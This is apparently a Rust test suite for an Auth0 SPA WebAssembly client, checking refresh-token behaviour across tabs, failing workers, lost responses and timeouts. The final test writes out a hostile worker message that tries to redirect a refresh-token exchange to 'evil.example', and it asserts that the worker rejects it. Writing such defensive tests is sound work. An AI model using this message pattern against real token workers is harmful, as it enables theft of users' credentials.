//! Refreshing when others are in the way: tabs, workers that fail, answers that are lost.

use std::time::Duration;

use auth0_spa_wasm::error::Error;
use auth0_spa_wasm::options::{Options, TokenOptions};
use auth0_spa_wasm::platform::Platform;
use auth0_spa_wasm::protocol::http::Response;
use futures::future::{join, join_all};

use super::refresh::{everywhere, frames, off, options, shared, token};
use crate::common::World;
use crate::common::platform::Worker;

#[test]
fn w4_a_worker_that_cannot_be_used_is_noticed() {
    for worker in [Worker::Refused, Worker::Silent] {
        let world = World::new();
        *world.platform.tab.worker.borrow_mut() = worker;
        let client = world.client_with(options());
        world.log_in(&client);
        assert!(token(&world, &client, off()).unwrap().is_some());
        let warnings = world.platform.tab.warnings.borrow();
        assert_eq!(warnings.len(), 1);
        assert!(warnings[0].starts_with("worker_failed"), "{warnings:?}");
    }
}

#[test]
fn a_worker_that_dies_costs_its_tokens_and_nothing_else() {
    let world = World::new();
    world.platform.start_worker();
    let client =
        world.client_with(Options { use_refresh_tokens_fallback: Some(true), ..options() });
    world.log_in(&client);
    *world.platform.tab.worker.borrow_mut() = Worker::Refused;
    assert!(token(&world, &client, off()).unwrap().is_some());
    assert_eq!(frames(&world), 1);
    assert!(token(&world, &client, off()).unwrap().is_some());
    assert_eq!(frames(&world), 1, "the frame brought a refresh token, which the page keeps now");
}

#[test]
fn a_lost_answer_is_no_reason_to_provoke_a_reuse_where_the_session_can_help() {
    for place in [options(), shared()] {
        let world = World::new();
        let client =
            world.client_with(Options { use_refresh_tokens_fallback: Some(true), ..place });
        world.log_in(&client);
        world.tenant(|tenant| tenant.loses_answers = true);
        assert_eq!(token(&world, &client, off()).unwrap_err().code(), Some("network_error"));
        world.tenant(|tenant| tenant.loses_answers = false);
        assert!(token(&world, &client, off()).unwrap().is_some());
        let tenant = world.platform.origin.tenant.borrow();
        assert_eq!((tenant.reuses, frames(&world)), (0, 1));
    }
}

#[test]
fn a_lost_answer_ends_the_session_only_if_the_tenant_ends_it() {
    everywhere(|world, client| {
        world.tenant(|tenant| tenant.loses_answers = true);
        assert_eq!(token(world, client, off()).unwrap_err().code(), Some("network_error"));
        world.tenant(|tenant| tenant.loses_answers = false);
        let error = token(world, client, off()).unwrap_err();
        assert_eq!(error.code(), Some("invalid_grant"));
        assert_eq!(error.to_string(), "Unknown or invalid refresh token.");
    });
}

#[test]
fn a_caller_that_gives_up_loses_no_token() {
    everywhere(|world, client| {
        let impatient = client.clone();
        let platform = world.platform.clone();
        world.run(async move {
            let hurry = platform.sleep(Duration::from_millis(10));
            let call = impatient.get_token_silently(off());
            futures::pin_mut!(hurry, call);
            assert!(matches!(
                futures::future::select(hurry, call).await,
                futures::future::Either::Left(_)
            ));
        });
        assert!(token(world, client, off()).unwrap().is_some());
        assert_eq!(world.platform.origin.tenant.borrow().reuses, 0);
    });
}

#[test]
fn a_siblings_newer_token_is_adopted() {
    let world = World::new();
    let client = world.client_with(shared());
    world.log_in(&client);
    // Another SDK, without our lock, exchanged the token while ours was on its way.
    let key = "@@auth0spajs@@::client::default::openid profile email offline_access";
    let stale = world.platform.origin.store.entries.borrow()[key].clone();
    token(&world, &client, off()).unwrap();
    let fresh = world.platform.origin.store.entries.borrow()[key].clone();
    world.platform.origin.store.entries.borrow_mut().insert(key.into(), stale);
    world.tenant(|tenant| tenant.latency = Duration::from_millis(500));
    let platform = world.platform.clone();
    let result = world.run(async move {
        let sibling = async {
            platform.sleep(Duration::from_millis(100)).await;
            platform.origin.store.entries.borrow_mut().insert(key.into(), fresh);
            // The tenant of this test forgives the reuse, as one with an overlap would.
            platform.origin.tenant.borrow_mut().families[0].is_revoked = false;
        };
        join(client.get_token_silently(off()), sibling).await.0
    });
    assert!(result.unwrap().is_some());
    let tenant = world.platform.origin.tenant.borrow();
    let refreshes = tenant.token_requests.iter().filter(|body| body.get("refresh_token").is_some());
    assert_eq!(refreshes.count(), 3, "the stale token, then the sibling's");
}

#[test]
fn x18_tabs_take_turns_and_share_the_result() {
    let world = World::new();
    let other = World { platform: world.platform.another_tab() };
    let (one, two) = (world.client_with(shared()), other.client_with(shared()));
    world.log_in(&one);
    world.platform.advance(Duration::from_secs(86_400));
    let (one, two) = world.run(async move {
        join(
            one.get_token_silently(TokenOptions::default()),
            two.get_token_silently(TokenOptions::default()),
        )
        .await
    });
    assert_eq!(one.unwrap(), two.unwrap());
    assert_eq!(world.token_requests(), 2, "the login and one refresh");
}

#[test]
fn a_refresh_asks_for_each_lock_once_and_only_other_tabs_wait_until_they_see_its_token() {
    let world = World::new();
    let other = World { platform: world.platform.another_tab() };
    let clients = [world.client_with(shared()), other.client_with(shared())];
    world.log_in(&clients[0]);
    world.platform.advance(Duration::from_secs(86_400));
    world.platform.origin.store.settling.set(Duration::from_secs(5));
    let (before, known) = (world.platform.origin.clock.now.get(), world.platform.log().len());
    let calls = clients.map(|client| {
        let clock = world.platform.origin.clock.clone();
        async move {
            let token = client.get_token_silently(TokenOptions::default()).await.unwrap();
            (token, clock.now.get() - before)
        }
    });
    let answers = world.run(join_all(calls));
    assert_eq!(answers[0].0, answers[1].0);
    assert_eq!(world.token_requests(), 2, "the login and one refresh");
    assert!(answers[0].1 < 5_000 && answers[1].1 >= 5_000, "{} {}", answers[0].1, answers[1].1);
    let log = world.platform.log();
    let locks = log[known..].iter().filter_map(|line| line.strip_prefix("lock auth0.lock."));
    let kinds: Vec<_> = locks.filter_map(|name| name.split('.').next()).collect();
    assert_eq!(kinds, ["getTokenSilently", "refreshToken", "getTokenSilently"]);
}

#[test]
fn w5_followers_wait_for_a_slow_leader() {
    everywhere(|world, client| {
        world.tenant(|tenant| tenant.latency = Duration::from_millis(9_900));
        let calls = (0..50).map(|_| {
            let client = client.clone();
            async move { client.get_token_silently(TokenOptions::default()).await }
        });
        world.platform.advance(Duration::from_secs(86_400));
        let before = world.token_requests();
        let results = world.run(join_all(calls.collect::<Vec<_>>()));
        assert!(results.iter().all(|result| result.as_ref().is_ok_and(Option::is_some)));
        assert_eq!(world.token_requests() - before, 1);
    });
}

#[test]
fn a_refresh_under_way_is_waited_for_and_not_doubted() {
    for place in [options(), shared()] {
        let world = World::new();
        let scopes = auth0_spa_wasm::json::Object::new().with("https://a/", "read:a");
        let client = world.client_with(Options {
            use_refresh_tokens_fallback: Some(true),
            use_mrrt: Some(true),
            authorization_params: Some(auth0_spa_wasm::json::Object::new().with("scope", scopes)),
            ..place
        });
        world.log_in(&client);
        let ask = |audience: &str| {
            let parameters = auth0_spa_wasm::json::Object::new().with("audience", audience);
            let options = TokenOptions { authorization_params: Some(parameters), ..off() };
            let client = client.clone();
            async move { client.get_token_silently(options).await }
        };
        let (one, two) = world.run(join(ask("https://a/"), ask("https://b/")));
        assert!(one.unwrap().is_some() && two.unwrap().is_some());
        let tenant = world.platform.origin.tenant.borrow();
        assert_eq!((tenant.reuses, frames(&world)), (0, 0));
    }
}

#[test]
fn who_waits_for_a_page_that_is_closed_does_not_send_its_token_again() {
    let world = World::new();
    let options = Options { use_refresh_tokens_fallback: Some(true), ..shared() };
    let (first, second) = (world.client_with(options.clone()), world.client_with(options));
    world.log_in(&first);
    // The first page gets no answer; the second waits for its turn meanwhile.
    world.tenant(|tenant| tenant.loses_answers = true);
    let platform = world.platform.clone();
    let (one, two) = world.run(async move {
        let later = async {
            let waiting = second.get_token_silently(off());
            let found = async {
                platform.sleep(Duration::from_millis(1)).await;
                platform.origin.tenant.borrow_mut().loses_answers = false;
            };
            join(waiting, found).await.0
        };
        join(first.get_token_silently(off()), later).await
    });
    assert_eq!(one.unwrap_err().code(), Some("network_error"));
    assert!(two.unwrap().is_some());
    assert_eq!(world.platform.origin.tenant.borrow().reuses, 0);
}

#[test]
fn w5_a_leader_of_thirty_seconds_fails_no_follower_in_any_tab() {
    let world = World::new();
    let patient = Options { http_timeout_in_seconds: Some(40.0), ..shared() };
    let tabs: Vec<World> =
        (0..5).map(|_| World { platform: world.platform.another_tab() }).collect();
    world.log_in(&world.client_with(patient.clone()));
    world.tenant(|tenant| tenant.latency = Duration::from_secs(30));
    world.platform.advance(Duration::from_secs(86_400));
    let before = world.token_requests();
    let clients: Vec<_> = tabs.iter().map(|tab| tab.client_with(patient.clone())).collect();
    let calls = clients.iter().flat_map(|client| {
        (0..4).map(move |_| {
            let client = client.clone();
            async move { client.get_token_silently(TokenOptions::default()).await }
        })
    });
    let results = world.run(join_all(calls.collect::<Vec<_>>()));
    assert!(results.iter().all(|result| result.as_ref().is_ok_and(Option::is_some)));
    assert_eq!(world.token_requests() - before, 1);
}

/// How often the token endpoint was asked.
fn asked(world: &World) -> usize {
    let is_token = |line: &&String| line.ends_with("/oauth/token");
    world.platform.log().iter().filter(is_token).count()
}

#[test]
fn w7_x08_a_refresh_token_is_sent_once_whatever_becomes_of_it() {
    type Arrange = fn(&mut crate::common::Tenant);
    let failures: [(&str, Arrange); 4] = [
        ("network_error", |tenant| tenant.unreachable = true),
        ("timeout", |tenant| tenant.latency = Duration::from_secs(11)),
        ("request_error", |tenant| tenant.token_answer = Some(html(502))),
        ("request_error", |tenant| tenant.token_answer = Some(html(200))),
    ];
    for (code, arrange) in failures {
        everywhere(|world, client| {
            let before = asked(world);
            world.tenant(arrange);
            assert_eq!(token(world, client, off()).unwrap_err().code(), Some(code));
            assert_eq!(asked(world), before + 1, "{code}");
        });
    }
}

#[test]
fn w8_what_cannot_be_read_is_the_same_error_in_worker_and_page() {
    everywhere(|world, client| {
        world.tenant(|tenant| tenant.token_answer = Some(html(502)));
        let error = token(world, client, off()).unwrap_err();
        let Error::Generic(refusal) = error else { panic!("{error:?}") };
        assert_eq!((refusal.code.as_str(), refusal.status), ("request_error", Some(502)));
        assert_eq!(
            refusal.description,
            "HTTP error. Unable to fetch https://tenant.example/oauth/token"
        );
    });
}

fn html(status: u16) -> Response {
    Response { status, headers: Vec::new(), body: "<h1>Bad Gateway</h1>".into() }
}

#[test]
fn a_token_that_is_cached_needs_no_worker() {
    let world = World::new();
    world.platform.start_worker();
    let client = world.client_with(options());
    world.log_in(&client);
    // Whoever asked it now would wait for ever.
    *world.platform.tab.worker.borrow_mut() = Worker::Silent;
    let before = world.platform.origin.clock.now.get();
    assert!(token(&world, &client, TokenOptions::default()).unwrap().is_some());
    assert_eq!(world.platform.origin.clock.now.get(), before);
}

#[test]
fn oa17_dp37_a_worker_sends_tokens_and_signs_proofs_for_its_own_tenant_only() {
    let world = World::new();
    world.platform.start_worker();
    let client = world.client_with(options());
    world.log_in(&client);
    // What a script of the page might say that has found the line to the worker.
    let errand = r#"{"url":"https://evil.example/oauth/token","telemetry":"","limit":10,"dpop":true,"body":{},"refresh":{"audience":"default","scope":"openid"}}"#;
    for base_url in ["https://tenant.example", "https://evil.example"] {
        let message = format!(
            r#"{{"client_id":"client","base_url":"{base_url}","call":"exchange","errand":{errand}}}"#
        );
        let platform = world.platform.clone();
        let reply = world.run(async move { platform.ask_worker(&message).await }).unwrap();
        assert!(reply.contains("invalid_fetch_url"), "{reply}");
    }
    let sent = world.platform.log();
    assert!(!sent.iter().any(|line| line.contains("evil")), "{sent:?}");
    assert!(token(&world, &client, off()).unwrap().is_some());
}
